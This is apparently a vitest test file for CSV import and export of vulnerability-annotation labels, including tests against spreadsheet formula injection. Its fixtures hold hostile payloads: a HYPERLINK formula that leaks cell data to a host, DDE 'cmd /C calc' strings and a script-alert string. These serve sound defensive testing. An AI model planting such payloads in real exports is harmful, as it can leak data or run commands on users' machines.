import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Label } from '../../../../src/lib/core/labels/label.ts';
import { LabelCsvError, labelsToCsv, parseLabelsCsv } from '../../../../src/lib/server/labels/labels-csv.ts';
import { LabelStore } from '../../../../src/lib/server/labels/label-store.ts';

const NOW = '2025-04-01T09:00:00.000Z';
const bytes = (text: string) => new TextEncoder().encode(text);
const parse = (text: string, targetCwe?: (id: string) => string | null) => parseLabelsCsv(bytes(text), { file: 'mine.csv', now: NOW, targetCwe });
const problemsOf = (text: string) => {
	try {
		parse(text);
	} catch (error) {
		if (error instanceof LabelCsvError) return error.problems;
		throw error;
	}
	throw new Error('expected a LabelCsvError');
};

describe('CSV import', () => {
	it('reads the five columns; quoted fields keep commas, quotes and line breaks', () => {
		const labels = parse(
			'target_id,annotator,vulnerable,cwe,note\n' +
				't1,Ann,true,cwe-79,\n' +
				't2,Ann,false,,"fine, ""really""\nsecond line"\n' +
				't3,Bo,,,\n'
		);
		expect(labels).toEqual([
			{ target_id: 't1', annotator: 'Ann', vulnerable: true, cwe: 'CWE-79', other_cwe: false, skipped: false, note: '', at: NOW },
			{ target_id: 't2', annotator: 'Ann', vulnerable: false, cwe: null, other_cwe: false, skipped: false, note: 'fine, "really"\nsecond line', at: NOW },
			{ target_id: 't3', annotator: 'Bo', vulnerable: null, cwe: null, other_cwe: false, skipped: false, note: '', at: NOW }
		]);
	});

	it('derives other_cwe from the target CWE when the file has no such column', () => {
		const labels = parse('target_id,annotator,vulnerable,cwe,note\nt1,Ann,true,CWE-20,\nt2,Ann,true,CWE-79,\nt9,Ann,true,CWE-20,\n', (id) =>
			id === 't9' ? null : 'CWE-79'
		);
		expect(labels.map((l) => l.other_cwe)).toEqual([true, false, false]);
	});

	it('columns in any order, with a BOM and CRLF', () => {
		const labels = parse('\uFEFFnote,cwe,vulnerable,annotator,target_id\r\nok,,false,Cy,t1\r\n');
		expect(labels[0]).toMatchObject({ target_id: 't1', annotator: 'Cy', vulnerable: false, note: 'ok' });
	});

	it('reports every bad row with file, line and field', () => {
		// Line numbers are physical lines: the quoted note of line 3 spans two lines.
		const problems = problemsOf(
			'target_id,annotator,vulnerable,cwe,note\n' +
				't1,Ann,yes,,\n' +
				't2,Ann,true,,"two\nlines"\n' +
				't3,<script>,true,,\n' +
				't4,Ann,false,CWE-79,\n' +
				't5,Ann,true,SQLi,\n' +
				',Ann,true,,\n' +
				't7,Ann,true\n'
		);
		expect(problems).toEqual([
			'mine.csv line 2, field "vulnerable": "yes" must be true or false (or empty for no answer)',
			'mine.csv line 5, field "annotator": "<script>" is not a valid annotator name (1 to 40 letters, digits, spaces, \'.\', \'_\' or \'-\')',
			'mine.csv line 6, field "cwe": only a vulnerable label names a CWE (vulnerable is false)',
			'mine.csv line 7, field "cwe": "SQLi" is not a CWE id (expected e.g. CWE-416)',
			'mine.csv line 8, field "target_id": "" must be a non-empty string of at most 500 characters',
			'mine.csv line 9: 3 fields, the header has 5'
		]);
	});

	it('a wrong header is reported before any row', () => {
		expect(problemsOf('target,annotator,vulnerable,label\nt1,Ann,true,x\n')).toEqual([
			'mine.csv line 1: header lacks column(s) target_id, cwe, note',
			'mine.csv line 1: unknown column(s) "target", "label" (known: target_id, annotator, vulnerable, cwe, note, other_cwe, skipped, at, decision, reason)'
		]);
	});

	it('CSV syntax errors and empty files name the file', () => {
		expect(problemsOf('target_id,annotator,vulnerable,cwe,note\nt1,Ann,true,,"open\n')).toEqual(['mine.csv line 2: unterminated quote in field 5']);
		expect(problemsOf('')).toEqual(['mine.csv: empty file (expected a header: target_id,annotator,vulnerable,cwe,note)']);
	});

	it('nothing is written when one row is bad', async () => {
		const root = await mkdtemp(join(tmpdir(), 'covw-labels-csv-'));
		try {
			const store = new LabelStore(root);
			const text = 'target_id,annotator,vulnerable,cwe,note\nt1,Ann,true,,\nt2,Ann,nope,,\n';
			await expect(Promise.resolve().then(async () => store.appendMany(parse(text)))).rejects.toThrow(/line 3, field "vulnerable"/);
			await expect(readFile(store.file)).rejects.toThrow(/ENOENT/);
		} finally {
			await rm(root, { recursive: true, force: true });
		}
	});
});

describe('CSV export', () => {
	const labels: Label[] = [
		{ target_id: 't1', annotator: 'Ann', vulnerable: true, cwe: 'CWE-20', other_cwe: true, skipped: false, note: 'says "hi", twice\n<script>alert(1)</script>', at: '2025-03-01T10:00:00.000Z' },
		{ target_id: 't2', annotator: 'Bo', vulnerable: null, cwe: null, other_cwe: false, skipped: true, note: '', at: '2025-03-01T10:01:00.000Z' }
	];

	it('writes the import columns, then other_cwe, skipped, at, decision, reason', () => {
		expect(labelsToCsv(labels)).toBe(
			'target_id,annotator,vulnerable,cwe,note,other_cwe,skipped,at,decision,reason\r\n' +
				't1,Ann,true,CWE-20,"says ""hi"", twice\n<script>alert(1)</script>",true,false,2025-03-01T10:00:00.000Z,,\r\n' +
				't2,Bo,,,,false,true,2025-03-01T10:01:00.000Z,,\r\n'
		);
	});

	it('round-trips accept/reject labels of Vul-Evol survivors, and refuses a rejection without a reason', () => {
		const acceptance: Label[] = [
			{ target_id: 's1', annotator: 'Ann', vulnerable: null, cwe: null, other_cwe: false, skipped: false, note: '', at: '2025-03-01T10:00:00.000Z', decision: 'accept', reason: null },
			{ target_id: 's2', annotator: 'Ann', vulnerable: null, cwe: null, other_cwe: false, skipped: false, note: 'same loop', at: '2025-03-01T10:00:00.000Z', decision: 'reject', reason: 'same_as_seed' }
		];
		const csv = labelsToCsv(acceptance);
		expect(csv.split('\r\n')[2]).toBe('s2,Ann,,,same loop,false,false,2025-03-01T10:00:00.000Z,reject,same_as_seed');
		expect(parse(csv)).toEqual(acceptance);
		expect(() => parse('target_id,annotator,vulnerable,cwe,note,decision\ns3,Ann,,,,reject\n')).toThrow(/line 2, field "reason": a rejection needs a reason/);
		expect(() => parse('target_id,annotator,vulnerable,cwe,note,decision,reason\ns3,Ann,true,,,accept,\n')).toThrow(/line 2, field "decision"/);
		expect(() => parse('target_id,annotator,vulnerable,cwe,note,decision,reason\ns3,Ann,,,,reject,boring\n')).toThrow(/field "reason": "boring" must be one of same_as_seed/);
	});

	it('round-trips through import', () => {
		expect(parse(labelsToCsv(labels))).toEqual(labels);
	});

	it('the store exports only the latest label per (target, annotator)', async () => {
		const root = await mkdtemp(join(tmpdir(), 'covw-labels-csv-'));
		try {
			const store = new LabelStore(root);
			await store.appendMany([labels[0], { ...labels[0], vulnerable: false, cwe: null, other_cwe: false, at: '2025-03-02T00:00:00.000Z', note: '' }, labels[1]]);
			const csv = labelsToCsv((await store.read()).latest);
			expect(csv.split('\r\n').slice(1, -1)).toEqual(['t1,Ann,false,,,false,false,2025-03-02T00:00:00.000Z,,', 't2,Bo,,,,false,true,2025-03-01T10:01:00.000Z,,']);
		} finally {
			await rm(root, { recursive: true, force: true });
		}
	});
});

describe('CSV export: no cell is a spreadsheet formula (issue 9 item 20)', () => {
	const base: Label = { target_id: 't1', annotator: 'Ann', vulnerable: true, cwe: 'CWE-78', other_cwe: false, skipped: false, note: '', at: '2025-03-01T10:00:00.000Z' };
	const notes = [
		'=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")',
		'+cmd|\' /C calc\'!A0',
		'-2+3+cmd|\' /C calc\'!A0',
		'@SUM(1+9)*cmd|\' /C calc\'!A0',
		'\t=1+1',
		'\r=1+1',
		"'=already quoted",
		"''@twice"
	];

	it('writes every formula-like note with a leading apostrophe', () => {
		for (const note of notes) {
			const cells = labelsToCsv([{ ...base, note }]);
			const raw = cells.slice(cells.indexOf('\r\n') + 2);
			// The note is the fifth field; a spreadsheet would drop the surrounding quotes.
			const noteCell = raw.slice('t1,Ann,true,CWE-78,'.length);
			const unquoted = noteCell.startsWith('"') ? noteCell.slice(1) : noteCell;
			expect(unquoted.startsWith("'"), JSON.stringify(note)).toBe(true);
		}
	});

	it('no exported cell starts with = + - @ tab or CR, whatever the field', () => {
		const hostile = { ...base, target_id: '=t1', annotator: '@Ann', note: '-1', cwe: 'CWE-78' };
		const lines = labelsToCsv([hostile]).split('\r\n').slice(1, -1);
		for (const cell of lines[0].split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
	});

	it('round-trips: import takes the apostrophe off again', () => {
		const labels = notes.map((note, i) => ({ ...base, target_id: `t${i}`, note }));
		expect(parse(labelsToCsv(labels))).toEqual(labels);
	});

	it('leaves ordinary notes alone', () => {
		expect(labelsToCsv([{ ...base, note: "it's fine = ok" }])).toContain(",it's fine = ok,");
	});
});
